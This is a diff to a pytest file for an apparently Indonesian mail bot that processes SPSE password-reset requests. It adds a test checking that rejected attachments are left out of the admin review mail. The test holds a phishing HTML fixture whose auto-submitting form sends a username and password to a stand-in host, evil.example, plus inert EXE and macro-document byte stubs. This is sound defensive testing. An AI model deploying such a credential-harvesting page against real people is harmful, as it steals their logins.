@@ -13,7 +13,7 @@ import pytest
 from mailbot.demo.servers import ReceivedMail
 from mailbot.store.models import Case, Event, InboundMessage
 from tests.support.bot import Bot
-from tests.support.documents import sample_sk
+from tests.support.documents import sample_request_letter, sample_sk
 from tests.support.mails import ADMIN, PPK_A, reply_email, request_email
 from tests.support.replies import with_headers
 from tests.support.review import body, get_case, refusals, review_for, set_auth, submit_case
@@ -204,3 +204,28 @@ def test_new_request_words_to_closed_case_reach_the_admins(any_bot: Bot) -> None
     any_bot.poll()
     assert [c.number for c in any_bot.all(Case)] == [case.number]
     assert [m.rcpt_tos for m in any_bot.sent("admin_notice")] == [[ADMIN]]
+
+
+# -- 7. rejected files are not relayed to the admins -----------------------------------------------------
+PHISHING_HTML = (b"<html><body><h1>Panduan SPSE</h1><form action='https://evil.example/login' method='post'>"
+                 b"<input name='user'><input type='password' name='pass'></form>"
+                 b"<script>document.forms[0].submit()</script></body></html>")
+EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
+DOCM = b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 22 + b"[Content_Types].xml" + b"\x00" * 40 + b"word/vbaProject.bin"
+
+
+def test_only_accepted_files_ride_along_in_the_review_mail(any_bot: Bot) -> None:
+    any_bot.append(request_email(EMAIL, NAME, "Permohonan reset password SPSE", f"Mohon reset password. NIP. {NIP}",
+                                 [("Surat Permohonan.pdf", sample_request_letter(NAME, NIP)),
+                                  ("SK PPK.pdf", sample_sk(NAME, NIP)),
+                                  ("Panduan SPSE.html", PHISHING_HTML), ("setup.exe", EXE),
+                                  ("Surat.docm", DOCM)]))
+    any_bot.poll()
+    reviews = any_bot.sent("review_request")
+    assert len(reviews) == 1
+    attached = [(p.get_filename(), p.get_content_type()) for p in reviews[0].message.iter_attachments()]
+    assert sorted(attached) == [("SK PPK.pdf", "application/pdf"), ("Surat Permohonan.pdf", "application/pdf")]
+    text = body(reviews[0])
+    for name in ("Panduan SPSE.html", "setup.exe", "Surat.docm"):
+        assert name in text and "tidak dilampirkan" in text.rsplit(name, 1)[1].split("\n", 1)[0]
+    assert b"evil.example/login" not in reviews[0].data
